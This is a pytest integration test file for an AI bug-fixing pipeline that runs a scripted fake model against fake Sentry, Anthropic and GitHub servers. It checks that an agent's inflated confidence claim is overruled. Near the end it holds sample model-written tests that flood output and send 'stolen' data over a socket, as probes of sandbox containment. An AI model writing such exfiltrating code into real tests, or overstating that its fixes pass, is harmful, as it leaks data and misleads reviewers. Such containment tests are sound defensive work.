"""Validation decides, end to end: the real service, the fake Sentry API, the agent on the real
`anthropic` SDK against the fake Messages API, the branch pushed to a fake GitHub, and the
project's tests REALLY run by the test engine in the sandbox (run_tests and the validate step).

The sample project is a small shop with unittest tests (the runner needs nothing installed, so
no registry is needed). The scripted model writes a reproduction test, runs it, fixes the code,
runs it again and submits; what happens next is decided by the pipeline's own runs.
"""

from __future__ import annotations

import copy
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.fakes.anthropic_api import API_KEY, FakeAnthropic, text, tool_use
from tests.fakes.github_api import FakeGitHub
from tests.fakes.sentry_api import FakeSentry, load_fixture
from tests.fakes.serve import serve_app
from tests.service import SENTRY_TOKEN, Service
from tests.test_agent_loop import BUGGY_LINE, CART, FIXED_LINE, _git
from tests.test_service_fix import api_event
from tests.test_service_pr import GITHUB_TOKEN, github_serving

pytestmark = pytest.mark.slow

SUITE = '''import unittest

from shop.cart import cart_total


class CartTest(unittest.TestCase):
    def test_total_with_discount(self):
        self.assertEqual(cart_total([{"sku": "pear", "qty": 2}], {"percent": 10}), 8.1)

    def test_total_of_apples(self):
        self.assertEqual(cart_total([{"sku": "apple", "qty": 2}], {"percent": 0}), 6.0)
'''
REPRO_PATH = "tests/test_cart_without_discounts.py"
REPRO = '''import unittest

from shop.cart import cart_total


class CartWithoutDiscountsTest(unittest.TestCase):
    def test_a_cart_without_discounts_is_not_discounted(self):
        # The event: POST /api/cart/total with no discounts crashed in apply_discount.
        self.assertEqual(cart_total([{"sku": "apple", "qty": 2}]), 6.0)
'''
BREAKING_LINE = "    percent = 0"  # the crash is gone, and so is every discount
INCOMPLETE_LINE = '    percent = (discounts or {}).get("percent")'  # None again, a line later


def make_unittest_shop(root: Path) -> Path:
    (root / "shop").mkdir(parents=True)
    (root / "tests").mkdir()
    (root / "shop" / "__init__.py").write_text("")
    (root / "shop" / "cart.py").write_text(CART)
    (root / "tests" / "__init__.py").write_text("")
    (root / "tests" / "test_cart.py").write_text(SUITE)
    _git(root, "init", "-q", "-b", "main")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "initial")
    return root


def _repro_turns(repro: str = REPRO) -> list[Any]:
    return [
        [text("The crash is apply_discount calling .get on None. Reproducing it first."),
         tool_use("propose_patch", {"changes": [{"file": REPRO_PATH, "description": "Reproduce the event.",
                                                 "original": "", "modified": repro}]})],
        [tool_use("run_tests", {"file": REPRO_PATH})],
    ]


def _fix_turns(line: str, claim: str = "HIGH") -> list[Any]:
    return [
        [tool_use("propose_patch", {"changes": [{"file": "shop/cart.py", "description": "Treat no discounts as none.",
                                                 "original": BUGGY_LINE, "modified": line}]})],
        [tool_use("run_tests", {})],
        [tool_use("submit_fix", {
            "analysis": "cart_total passes discounts=None to apply_discount, which calls .get on it. "
                        "All tests pass, including the new reproduction test.",
            "root_cause": "apply_discount assumes discounts is a dict, but None is its default.",
            "confidence": claim, "pr_title": "fix: handle carts without discounts",
            "pr_body": "## Fix\nUse an empty mapping. All tests pass.", "reproduction_test": REPRO_PATH})],
    ]


@pytest.fixture(scope="module")
def forge(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[FakeGitHub, str, Path]]:
    with github_serving(make_unittest_shop(tmp_path_factory.mktemp("forge") / "work")) as served:
        yield served


@pytest.fixture(scope="module")
def llm() -> Iterator[tuple[FakeAnthropic, str]]:
    fake = FakeAnthropic([])
    with serve_app(fake.app) as url:
        yield fake, url


@pytest.fixture(scope="module")
def sentry() -> Iterator[tuple[FakeSentry, str]]:
    fake = FakeSentry(token=SENTRY_TOKEN, org="test-org", load_fixtures=False)
    with serve_app(fake.app) as url:
        yield fake, url


def _config(github_url: str, llm_url: str) -> dict[str, Any]:
    project = {"scm-repo": "acme/shop", "clone-url": f"{github_url}/acme/shop.git",
               "tests": {"runner": "unittest", "timeout-seconds": 60, "max-output-bytes": 1_000_000}}
    return {
        "scm": {"type": "github", "base-url": github_url},
        "projects": [
            {**project, "source-project": "shop"},
            {**copy.deepcopy(project), "source-project": "shop-draft",
             "tests": {**project["tests"], "on-failure": "draft"}},  # type: ignore[dict-item]
            {**copy.deepcopy(project), "source-project": "shop-lean",
             "tests": {**project["tests"], "keep-reproduction": False}},  # type: ignore[dict-item]
            {**copy.deepcopy(project), "source-project": "shop-unbuildable",
             "tests": {**project["tests"], "setup": ["echo 'no such package' >&2; exit 3"]}},  # type: ignore[dict-item]
        ],
        "llm": {"provider": "anthropic", "base-url": llm_url, "max-steps": 12},
        # A fix the pipeline could not validate is at most MEDIUM: below this bar, it gets no PR.
        "behavior": {"min-confidence": "HIGH"},
        "worker": {"concurrency": 1, "poll-interval-seconds": 0.1, "sentry-backoff-seconds": 0.05},
    }


@pytest.fixture(scope="module")
def service(forge: tuple[FakeGitHub, str, Path], llm: tuple[FakeAnthropic, str], sentry: tuple[FakeSentry, str],
            tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    svc = Service(tmp_path_factory.mktemp("svc"), sentry[1], config=_config(forge[1], llm[1]),
                  env={"AUTOFIXER_LLM_KEY": API_KEY, "AUTOFIXER_GITHUB_TOKEN": GITHUB_TOKEN}).start()
    yield svc
    svc.stop()


def _webhook(issue_id: str, project: str) -> dict[str, Any]:
    body = load_fixture("webhook-issue-created.json")
    body["data"]["issue"].update(id=issue_id, project={"id": "1", "slug": project, "name": project})
    return body


def _run(service: Service, llm: FakeAnthropic, sentry: FakeSentry, issue: str, script: list[Any],
         project: str = "shop") -> dict[str, Any]:
    sentry.add_event(api_event(issue), project_slug=project)
    llm.script[:] = list(script)
    response = service.post_webhook(_webhook(issue, project), "issue")
    assert response.status_code == 202, response.text
    return service.wait_job(f"sentry:test-org:{issue}", timeout=180)["outcome"]


def _pull(github: FakeGitHub, issue: str) -> dict[str, Any] | None:
    return next((p for p in github.pulls.get("acme/shop", []) if p["head"]["ref"] == f"fix/auto-fixer-sentry-{issue}"),
                None)


def _branch_files(bare: Path, issue: str) -> list[str]:
    return subprocess.run(["git", "diff", "--name-only", "main", f"fix/auto-fixer-sentry-{issue}"], cwd=bare,
                          check=True, capture_output=True, text=True).stdout.split()


def _tool_results(llm: FakeAnthropic, name: str) -> list[str]:
    """What the model was told by each call of tool `name`, in order."""
    ids: dict[str, str] = {}
    seen: list[str] = []
    for body in llm.requests:
        for message in body["messages"]:
            for block in message["content"] if isinstance(message["content"], list) else []:
                if block.get("type") == "tool_use":
                    ids[block["id"]] = block["name"]
                elif block.get("type") == "tool_result" and ids.get(block["tool_use_id"]) == name:
                    content = block["content"]
                    result = content if isinstance(content, str) else " ".join(c.get("text", "") for c in content)
                    if result not in seen:
                        seen.append(result)
    return seen


def test_a_fix_that_passes_opens_a_pr_with_a_validation_section(
        service: Service, forge: tuple[FakeGitHub, str, Path], llm: tuple[FakeAnthropic, str],
        sentry: tuple[FakeSentry, str]) -> None:
    github, _, bare = forge
    outcome = _run(service, llm[0], sentry[0], "6001", [*_repro_turns(), *_fix_turns(FIXED_LINE)])
    assert outcome["state"] == "done", outcome
    # The model's own run_tests calls ran for real: the reproduction failed, then the suite passed.
    runs = _tool_results(llm[0], "run_tests")
    assert len(runs) == 2 and "AttributeError" in runs[0] and "3 passed" in runs[1], runs
    validation = outcome["validation"]
    assert validation["verdict"] == "validated" and validation["exception_seen"], validation
    assert validation["before"]["ok"] is False and validation["after"]["ok"] is True
    assert validation["suite"]["passed"] == 3 and validation["suite"]["failed"] == 0
    assert outcome["fix"]["confidence"] == "HIGH" and outcome["stages"][-2:] == ["validate", "publish"]
    pull = _pull(github, "6001")
    assert pull is not None and not pull["draft"]
    body = pull["body"]
    assert "## Validation" in body and "**Verdict: validated.**" in body
    assert "- **Reproduction test without the fix:** FAILED" in body and "AttributeError" in body
    assert "- **Reproduction test with the fix:** PASSED" in body
    assert "- **Test suite with the fix:** 3 passed, 0 failed" in body
    assert f"`{REPRO_PATH}` (the reproduction test)" in body
    # The reproduction test is committed with the fix.
    assert sorted(_branch_files(bare, "6001")) == sorted(["shop/cart.py", REPRO_PATH])


def test_a_fix_that_breaks_another_test_opens_no_pr_and_names_the_test(
        service: Service, forge: tuple[FakeGitHub, str, Path], llm: tuple[FakeAnthropic, str],
        sentry: tuple[FakeSentry, str]) -> None:
    github, _, _ = forge
    outcome = _run(service, llm[0], sentry[0], "6002", [*_repro_turns(), *_fix_turns(BREAKING_LINE)])
    validation = outcome["validation"]
    assert validation["verdict"] == "regressions", validation
    assert any("test_total_with_discount" in r for r in validation["regressions"]), validation
    assert outcome["state"] == "skipped" and "test_total_with_discount" in outcome["reason"], outcome
    assert outcome["publication"]["state"] == "skipped" and _pull(github, "6002") is None


def test_with_on_failure_draft_the_broken_fix_is_a_draft_marked_tests_failing(
        service: Service, forge: tuple[FakeGitHub, str, Path], llm: tuple[FakeAnthropic, str],
        sentry: tuple[FakeSentry, str]) -> None:
    github, _, _ = forge
    outcome = _run(service, llm[0], sentry[0], "6003", [*_repro_turns(), *_fix_turns(BREAKING_LINE)],
                   project="shop-draft")
    assert outcome["validation"]["verdict"] == "regressions" and outcome["state"] == "done", outcome
    pull = _pull(github, "6003")
    assert pull is not None and pull["draft"] and pull["title"].startswith("[tests failing] fix:")
    assert "tests-failing" in [label["name"] for label in pull["labels"]]
    assert "**Verdict: tests failing.**" in pull["body"] and "test_total_with_discount" in pull["body"]


def test_an_agent_claiming_success_on_a_failing_tree_is_overruled(
        service: Service, forge: tuple[FakeGitHub, str, Path], llm: tuple[FakeAnthropic, str],
        sentry: tuple[FakeSentry, str]) -> None:
    github, _, _ = forge
    outcome = _run(service, llm[0], sentry[0], "6004", [*_repro_turns(), *_fix_turns(INCOMPLETE_LINE, "HIGH")])
    validation = outcome["validation"]
    assert validation["verdict"] == "not_reproduced" and "still fails with the fix" in validation["reason"]
    assert validation["claimed_confidence"] == "HIGH" and outcome["fix"]["confidence"] == "MEDIUM"
    assert outcome["state"] == "skipped" and "below behavior.min-confidence HIGH" in outcome["reason"], outcome
    assert _pull(github, "6004") is None


def test_keep_reproduction_false_leaves_the_test_out_of_the_commit(
        service: Service, forge: tuple[FakeGitHub, str, Path], llm: tuple[FakeAnthropic, str],
        sentry: tuple[FakeSentry, str]) -> None:
    github, _, bare = forge
    outcome = _run(service, llm[0], sentry[0], "6005", [*_repro_turns(), *_fix_turns(FIXED_LINE)],
                   project="shop-lean")
    assert outcome["validation"]["verdict"] == "validated" and outcome["state"] == "done", outcome
    assert _branch_files(bare, "6005") == ["shop/cart.py"]
    pull = _pull(github, "6005")
    assert pull is not None and "is not part of this pull request (tests.keep-reproduction: false)" in pull["body"]


def test_an_environment_that_cannot_be_built_caps_the_fix_with_a_warning(
        service: Service, forge: tuple[FakeGitHub, str, Path], llm: tuple[FakeAnthropic, str],
        sentry: tuple[FakeSentry, str]) -> None:
    outcome = _run(service, llm[0], sentry[0], "6009", [*_repro_turns(), *_fix_turns(FIXED_LINE)],
                   project="shop-unbuildable")
    validation = outcome["validation"]
    assert validation["verdict"] == "unavailable" and "could not be built" in validation["reason"], validation
    assert any(w.startswith("the fix was not validated: the environment could not be built") for w in
               outcome["warnings"]), outcome["warnings"]
    # Never a crash, never a silent HIGH: capped, then the usual gate (min-confidence HIGH here).
    assert outcome["fix"]["confidence"] == "MEDIUM" and outcome["state"] == "skipped", outcome
    assert _pull(forge[0], "6009") is None


LOUD = '''import sys
import unittest


class LoudTest(unittest.TestCase):
    def test_floods_the_output(self):
        chunk = "x" * (1024 * 1024)
        for _ in range(100):
            sys.stdout.write(chunk)
'''


def test_llm_written_tests_that_misbehave_still_leave_a_recorded_result(
        service: Service, llm: tuple[FakeAnthropic, str], sentry: tuple[FakeSentry, str]) -> None:
    import socket

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    calls = f'''import socket
import unittest


class PhoneHomeTest(unittest.TestCase):
    def test_phones_home(self):
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
'''
    accepted: list[bool] = []

    def watch() -> None:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and not accepted:
            try:
                listener.accept()
                accepted.append(True)
            except OSError:
                pass

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        for issue, repro in (("6006", LOUD), ("6007", calls)):
            outcome = _run(service, llm[0], sentry[0], issue, [*_repro_turns(repro), *_fix_turns(FIXED_LINE)])
            validation = outcome["validation"]
            assert validation["verdict"] == "not_reproduced", validation
            assert outcome["fix"]["confidence"] == "MEDIUM" and outcome["state"] == "skipped", outcome
            if repro is LOUD:
                assert validation["before"]["limit"] == "output", validation
    finally:
        accepted.append(False)
        watcher.join(5)
        listener.close()
    assert accepted == [False], "a sandboxed test reached a socket on the host"


def test_validate_is_not_rerun_after_a_restart(tmp_path: Path, forge: tuple[FakeGitHub, str, Path],
                                               llm: tuple[FakeAnthropic, str], sentry: tuple[FakeSentry, str]) -> None:
    github, github_url, _ = forge
    # Opening the PR hangs: the job is killed after its validate step was checkpointed.
    github.fail_next("POST", "/pulls", 500, delay=60)
    opened_before = len(github.find("POST", "/pulls"))
    env = {"AUTOFIXER_LLM_KEY": API_KEY, "AUTOFIXER_GITHUB_TOKEN": GITHUB_TOKEN}
    svc = Service(tmp_path, sentry[1], config=_config(github_url, llm[1]), env=env)
    restarted = Service(tmp_path, sentry[1], config=_config(github_url, llm[1]), env=env)
    restarted.port, restarted.url = svc.port, svc.url
    sentry[0].add_event(api_event("6008"), project_slug="shop")
    llm[0].script[:] = [*_repro_turns(), *_fix_turns(FIXED_LINE)]
    try:
        svc.start()
        assert svc.post_webhook(_webhook("6008", "shop"), "issue").status_code == 202
        deadline = time.monotonic() + 120
        while len(github.find("POST", "/pulls")) == opened_before:
            assert time.monotonic() < deadline, svc.log()[-3000:]
            time.sleep(0.1)
        svc.kill()
        restarted.start()
        job = restarted.wait_job("sentry:test-org:6008", timeout=120)
    finally:
        svc.kill()
        restarted.stop()
    outcome = job["outcome"]
    assert outcome["state"] == "done" and outcome["validation"]["verdict"] == "validated", outcome
    assert _pull(github, "6008") is not None
    # The step's own log line: once, from the first process; the restarted one replayed the record.
    assert restarted.log().count("validation ran: validated") == 1, restarted.log()[-3000:]
